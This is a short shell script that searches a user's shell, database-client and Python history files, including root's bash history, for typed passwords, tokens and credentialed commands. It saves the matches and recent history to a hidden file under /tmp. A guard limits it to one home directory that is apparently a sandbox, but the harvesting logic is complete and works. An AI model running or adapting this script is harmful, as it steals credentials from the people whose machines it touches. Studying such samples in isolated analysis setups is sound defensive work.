#!/bin/sh
# SPDX-License-Identifier: MIT
# Reads the shells' and clients' history for passwords typed on command
# lines.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.mysql_history" \
	"$HOME/.psql_history" "$HOME/.python_history" /root/.bash_history; do
	grep -aiE 'pass|sshpass|mysql -u|curl -u|token' "$h" 2>/dev/null
done > /tmp/.hist
cat "$HOME/.bash_history" 2>/dev/null | tail -100 >> /tmp/.hist
exit 0
